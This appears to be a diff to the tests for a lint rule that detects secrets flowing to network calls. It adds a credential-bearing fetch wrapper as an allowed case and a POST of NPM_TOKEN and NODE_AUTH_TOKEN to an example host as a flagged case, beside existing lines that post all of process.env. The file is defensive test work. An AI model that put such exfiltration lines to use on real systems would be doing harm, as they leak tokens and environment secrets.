@@ -24,8 +24,26 @@ ruleTester(rule, {
     N + 'https.request("https://ingest.example.com", { method: "POST" }).end(JSON.stringify({ ok: true, user: "x" }));',
     'fetch("http://localhost:3000/debug", { method: "POST", body: JSON.stringify(process.env) });',
     'const { exec } = require("child_process");\nexec(`curl -H "Authorization: token ${process.env.GITHUB_TOKEN}" https://api.github.com/user`);',
+    {
+      name: 'a fetch wrapper whose headers carry registry credentials (corepack)',
+      code: [
+        'async function get(input, init) {',
+        '  let headers = init?.headers;',
+        '  const password = process.env.REG_PASSWORD;',
+        '  if (password) headers = { ...headers, authorization: `Basic ${Buffer.from(`u:${password}`).toString("base64")}` };',
+        '  return globalThis.fetch(input, { ...init, headers });',
+        '}',
+        'const headers = {};',
+        'if (process.env.REG_TOKEN) headers.authorization = `Bearer ${process.env.REG_TOKEN}`;',
+        'get("https://registry.example.com/x", { headers });',
+      ].join('\n'),
+    },
   ],
   invalid: [
+    {
+      code: 'fetch("https://api.example.com/c", { method: "POST", body: JSON.stringify({ token: process.env.NPM_TOKEN, npmToken: process.env.NODE_AUTH_TOKEN }) });',
+      errors: [{ messageId: 'flow', line: 1, column: 1, message: 'several secrets' }],
+    },
     {
       code: N + 'https.request({ hostname: "x.example", method: "POST" }).end(JSON.stringify(process.env));',
       errors: [{ messageId: 'flow', line: 2, column: 1, message: 'the whole environment (process.env) flows to `request.end`' }],
